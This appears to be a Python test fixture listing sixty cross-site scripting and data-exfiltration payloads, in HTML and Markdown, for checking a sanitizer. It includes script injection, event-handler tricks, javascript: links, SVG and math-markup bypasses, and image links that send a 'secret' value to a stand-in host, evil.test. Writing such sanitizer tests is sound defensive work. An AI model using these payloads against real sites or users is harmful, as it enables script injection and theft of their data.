"""Sixty texts that would run a script or ask another machine if a page read them as HTML, or followed what they name.

A script that runs sets ``window.hit``; a request that leaves goes to ``evil.test``.
"""

from __future__ import annotations

HIT = "window.hit=1"
OUT = "http://evil.test/leak"

HTML = (
    f"<script>{HIT}</script>",
    f"<script src={OUT}.js></script>",
    f"<SCRIPT SRC='{OUT}'></SCRIPT>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<img src=x onerror={HIT}>",
    f'<img src="{OUT}.png">',
    f"<img src={OUT} srcset='{OUT} 2x'>",
    f"<body onload={HIT}>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<object data='{OUT}'></object><embed src='{OUT}'>",
    f"<link rel=stylesheet href={OUT}.css><style>@import '{OUT}'</style>",
    f"<div style=\"background:url('{OUT}')\">x</div>",
    f'<base href="{OUT}/"><a href="x">x</a>',
    f'<meta http-equiv="refresh" content="0;url={OUT}">',
    f'<form action="{OUT}"><input name=k autofocus onfocus={HIT}><button>go</button></form>',
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<video autoplay onplay={HIT}><source src={OUT} onerror={HIT}></video><audio src={OUT} autoplay></audio>",
    f"<template><script>{HIT}</script></template><noscript><img src={OUT}></noscript>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
    f"<svg/onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={HIT}>#x"></use><image href="{OUT}"/></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>top.{HIT}</script>'></iframe></foreignObject></svg>",
    f"<a href=javascript:{HIT}>press</a>",
    f"<noembed><p title='</noembed><img src=x onerror={HIT}>'>",
    f"<!--><img src=x onerror={HIT}>--><![CDATA[<script>{HIT}</script>]]>",
    f"&lt;img src=x onerror={HIT}&gt;<textarea></textarea><img src=x onerror={HIT}>",
    f"<custom-element is=x onclick={HIT} tabindex=1 autofocus onfocus={HIT}>x</custom-element>",
)

MARKDOWN = (
    f"[press](javascript:{HIT})",
    f"[press](JaVaScRiPt:{HIT})",
    f"[press](java\tscript:{HIT})",
    f"[press](&#106;avascript:{HIT})",
    f"[press](javascript&colon;{HIT})",
    f"[press](data:text/html,<script>{HIT}</script>)",
    f"[press](vbscript:{HIT} 'title')",
    f"[press](blob:{OUT}) [press](file:///etc/passwd) [press](intent://x)",
    f"[press]: javascript:{HIT}\n\n[press][press] [press]",
    f"<javascript:{HIT}>",
    f"![leak]({OUT}?q=secret)",
    f"![leak]({OUT}.png 'x\" onerror=\"{HIT}')",
    f"![leak][1]\n\n[1]: {OUT}?q=secret",
    f"[![leak]({OUT})](javascript:{HIT})",
    f"![<img src=x onerror={HIT}>]({OUT})",
    "![leak](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9MSI+)",
    f'[x](http://a.test/"onmouseover="{HIT})',
    f"[x](http://a.test '\" autofocus onfocus={HIT} x=\"')",
    f"```html\n<script>{HIT}</script>\n<img src={OUT}>\n```",
    f'```js" onload={HIT} x="\nalert(1)\n```',
    f"```<img/src=x/onerror={HIT}>\ncode\n```",
    f"`<img src=x onerror={HIT}>` ``<script>{HIT}</script>``",
    f"| a | b |\n|---|:-:|\n| <img src={OUT}> | [x](javascript:{HIT}) |",
    f"> <script>{HIT}</script>\n\n- ![x]({OUT})\n  1. <svg onload={HIT}>",
    f"# <img src=x onerror={HIT}>\n\n***<b onclick={HIT}>x</b>***",
    f"$\\href{{javascript:{HIT}}}{{x}}$ and $$\\includegraphics{{{OUT}}}$$",
    f'$\\class{{x" onload={HIT}}}{{y}}$ $\\style{{background:url({OUT})}}{{z}}$ $\\html{{<img src={OUT}>}}$',
    f"$$\\text{{<img src=x onerror={HIT}>}}$$ \\(\\url{{javascript:{HIT}}}\\)",
    f'<a href="#" \n onclick="{HIT}">x</a>\n\n<div\n onmouseover={HIT}\n>\n\ntext',
    f"javascript:{HIT} and //evil.test/leak and www.evil.test/leak",
)

ATTACKS = HTML + MARKDOWN
assert len(ATTACKS) == 60
